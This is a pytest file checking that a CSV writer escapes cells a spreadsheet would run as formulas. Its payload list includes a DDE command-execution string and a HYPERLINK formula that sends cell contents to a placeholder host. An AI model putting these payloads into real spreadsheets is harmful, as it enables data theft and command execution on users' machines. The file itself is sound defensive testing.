"""CSV cells that a spreadsheet cannot take for formulas."""

import csv
import io

import pytest

from worker.csv_text import BOM, line

_PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1"),
    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20"),
    *(" =1", "\u3000=1", "\u200b=1", "\ufeff=1", "\u00a0@x", "--1", "+86 138", "-", "="),
    *('=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
]


@pytest.mark.parametrize("text", _PAYLOADS)
def test_no_cell_begins_with_what_a_spreadsheet_acts_on(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(line([text])))
    assert cell.startswith("'")
    assert cell.isprintable() or "\n" in cell


@pytest.mark.parametrize("text", ["-12.00", "12", "0", "-7", "success", "a=b", "", "'x"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(line([text])))
    assert cell == text


def test_quotes_commas_and_lines_come_back_as_they_were() -> None:
    cells = ['say "hi"', "a,b", "x\ny", "成功"]
    assert next(csv.reader(io.StringIO(line(cells)))) == cells
    assert BOM == "\N{ZERO WIDTH NO-BREAK SPACE}"
